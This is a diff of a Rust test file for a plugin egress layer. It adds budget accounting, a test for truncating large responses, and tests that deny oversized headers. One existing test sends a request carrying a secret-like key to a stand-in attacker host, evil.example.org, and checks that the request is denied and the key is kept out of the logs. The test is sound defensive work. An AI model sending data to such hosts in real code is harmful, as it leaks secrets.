@@ -15,6 +15,10 @@ use dynacu_runtime::{Manifest, NoBlobs};
 use super::address::LookUp;
 use super::*;
 use crate::capture::timebase::Timebase;
+use crate::inference::budget::Budget;
+use crate::inference::prices::Prices;
+use crate::inference::provider::ModelService;
+use crate::inference::seal::Seal;
 
 const SECRET: &str = "sk-example-0123456789";
 const MANIFEST: &str = r#"
@@ -100,6 +104,16 @@ impl Blobs for OneBlob {
     }
 }
 
+fn service() -> Arc<ModelService> {
+    Arc::new(ModelService {
+        network: Arc::default(),
+        prices: Prices::load(None).unwrap(),
+        budget: Budget::default(),
+        seal: Seal::new().unwrap(),
+        deadline: Duration::from_secs(30),
+    })
+}
+
 fn egress(server: Option<SocketAddr>) -> CallEgress {
     let manifest = Manifest::parse(MANIFEST, "plugin.toml").unwrap();
     let endpoints: Vec<_> = server
@@ -116,6 +130,7 @@ fn egress(server: Option<SocketAddr>) -> CallEgress {
         until: Instant::now() + Duration::from_secs(30),
         statuses: Arc::default(),
         requests: AtomicUsize::new(0),
+        account: Arc::new(Account::new(service(), None, false, 16)),
         log: None,
     }
 }
@@ -424,6 +439,7 @@ async fn the_record_holds_the_whole_exchange_and_no_secret() {
         log: Some(ExchangeLog {
             recorder: recorder.clone(),
             timebase: Arc::new(Timebase::new()),
+            allotment: Arc::default(),
             call: 4,
             attempt: 2,
         }),
@@ -439,11 +455,12 @@ async fn the_record_holds_the_whole_exchange_and_no_secret() {
     let _ = egress
         .send(request("https://evil.example.org/path?key=hidden"))
         .await;
+    let _ = egress.send(request("https://api.example.com/large")).await;
     drop((egress, recorder));
     writer.finish().unwrap();
 
     let entries = read_events(&at).unwrap();
-    let [first, second] = entries.as_slice() else {
+    let [first, second, third] = entries.as_slice() else {
         panic!("{entries:?}")
     };
     let Entry::ModelExchange {
@@ -483,12 +500,50 @@ async fn the_record_holds_the_whole_exchange_and_no_secret() {
     };
     assert_eq!(url, "https://evil.example.org/path");
     assert!(error.starts_with("denied"), "{error}");
+    let Entry::ModelExchange {
+        response: Some(cut),
+        error: Some(error),
+        ..
+    } = &third.event
+    else {
+        panic!("{third:?}")
+    };
+    assert!(error.contains("larger than"), "{error}");
+    let kept = std::fs::read_to_string(at.join(format!("blobs/{cut}.txt"))).unwrap();
+    assert!(kept.ends_with("\n[cut by the host: 4194304 bytes are kept]"));
     for file in std::fs::read_dir(at.join("blobs")).unwrap() {
         let bytes = std::fs::read(file.unwrap().path()).unwrap();
         assert!(!String::from_utf8_lossy(&bytes).contains("0123456789"));
     }
     let events = std::fs::read_to_string(at.join("events.jsonl")).unwrap();
     assert!(!events.contains("0123456789") && !events.contains("hidden"));
+}
+
+#[tokio::test]
+async fn a_request_that_was_given_up_is_charged_by_what_left() {
+    let (server, _) = server().await;
+    let service = service();
+    let egress = CallEgress {
+        account: Arc::new(Account::new(Arc::clone(&service), None, false, 16)),
+        ..egress(Some(server))
+    };
+    let mut sent = request("https://api.example.com/slow");
+    sent.body = vec![BodyPart::Bytes(vec![b' '; 800])];
+    let answer = tokio::time::timeout(Duration::from_millis(300), egress.send(sent)).await;
+    assert!(answer.is_err());
+    assert_eq!(service.budget.spent().tokens, 0);
+    drop(egress);
+    assert_eq!(service.budget.spent().tokens, 100);
+}
+
+#[tokio::test]
+async fn a_head_that_would_fill_the_record_stays_here() {
+    let (server, asked) = server().await;
+    let egress = egress(Some(server));
+    let mut long = request("https://api.example.com/");
+    long.headers = vec![("x-long".to_owned(), "x".repeat(LARGEST_HEAD))];
+    assert!(denied(&egress, long).await.contains("64 KiB"));
+    assert!(asked.0.lock().unwrap().is_empty());
 }
 
 #[tokio::test]
